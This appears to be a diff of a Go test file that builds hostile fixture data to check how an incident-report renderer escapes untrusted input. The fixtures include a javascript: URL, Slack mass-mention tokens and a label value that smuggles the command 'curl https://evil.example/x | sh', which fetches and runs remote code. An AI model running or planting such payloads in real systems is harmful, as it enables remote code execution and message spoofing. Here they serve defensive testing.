@@ -149,9 +149,10 @@ func blocksViews() []struct {
 		URL: "javascript:alert(1)", FinishedAt: blocksNow.Add(-time.Hour)}
 	hostile.Evidence = &incident.Evidence{Round: 1, Deploys: []incident.Deploy{hostileDeploy}, Suspect: &hostileDeploy,
 		Target: &incident.Deploy{SHA: "<!here>"}, CompareURL: "https://evil.example/x|<!here>",
-		RollbackWithheld: `rollback suggestion withheld: label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name`,
 		Traces:   []incident.Trace{{ID: "<!here>", Operation: "<!channel>", ErrorSpan: "<@U123>", URL: "https://jaeger.example.com/trace/a|<!here>"}},
 		Problems: []string{"Jaeger: <!channel> &amp;"}, Pending: []string{"<@U999>"}}
+	// The rule's command would take a label that is not of its kind.
+	hostile.Evidence.RollbackWithheld = `rollback suggestion withheld: label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name`
 
 	return []struct {
 		name string
